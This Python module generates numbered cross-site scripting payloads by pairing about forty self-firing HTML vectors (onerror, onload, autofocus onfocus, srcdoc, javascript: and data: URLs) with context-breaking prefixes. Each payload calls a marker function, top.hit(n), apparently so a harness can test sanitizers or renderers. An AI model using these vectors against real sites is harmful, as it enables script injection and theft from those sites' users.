"""Words that would run in a browser if a page showed them as markup. ``{}`` is where the call goes."""

from __future__ import annotations

from itertools import product

# Those that start by themselves, without a click.
_HOLDERS = (
    "<img src=x: onerror={}>", "<img src=x: onerror='{}'>", '<img/src="x:"/onerror="{}">', "<IMG SRC=x: OnErRoR={}>",
    "<svg onload={}>", "<svg/onload={}>", "<svg><g onload={}></g></svg>", "<svg><script>{}</script></svg>",
    "<body onload={}>", "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script >{}</script >", "<script\n>{}</script>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", '<iframe src="javascript:{}"></iframe>', "<iframe onload={}></iframe>",
    "<video><source onerror={}></video>", "<video src=x: onerror={}></video>", "<audio src=x: onerror={}></audio>",
    "<details open ontoggle={}>a</details>", "<style onload={}>a{{}}</style>",
    "<style>@keyframes k{{}}</style><b style='animation:k 1ms' onanimationstart={}>a</b>",
    "<link rel=stylesheet href='data:text/css,a' onload={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>", "<a autofocus href=# onfocus={}>a</a>", "<object data='x:' onerror={}></object>",
    "<math><mtext><img src=x: onerror={}></mtext></math>", "<table><td><img src=x: onerror={}></td></table>",
    "<noscript><p title='</noscript><img src=x: onerror={}>'></noscript>", "<marquee onstart={}>a</marquee>",
    "<svg><animate onbegin={} attributeName=x dur=1s></animate></svg>", "<svg><set onbegin={} attributeName=x to=1></set></svg>",
    "<embed src='javascript:{}'>", "<form><button autofocus onfocus={}>a</button></form>", "<img srcset='x:' onerror={}>",
    "<picture><img src=x: onerror={}></picture>", "<base href='data:'><img src=a onerror={}>", "<script src='data:text/javascript,{}'></script>",
)  # fmt: skip
# What a careless page might already stand in: text, an attribute, a comment, a style, a script's string, a title.
_BREAKS = ("", '">', "'>", "-->", "</title>", "</style>", "</script>", "</textarea>", "\">'>", "]]>", "--!>", "</p>", "&lt;b&gt;")
_CALLS = ("top.hit({n})", "top['hit']({n})", "top.hit`{n}`")


def payloads(count: int) -> list[str]:
    """The first ``count``, spread over holders, breaks and calls; number n calls ``top.hit(n)``."""
    made = [(holder, lead, call) for call, lead, holder in product(_CALLS, _BREAKS, _HOLDERS)]
    step = max(1, len(made) // count)
    chosen = [made[(n * step) % len(made)] for n in range(count)]
    return [f"{lead}{holder.format(call.format(n=n))}" for n, (holder, lead, call) in enumerate(chosen)]
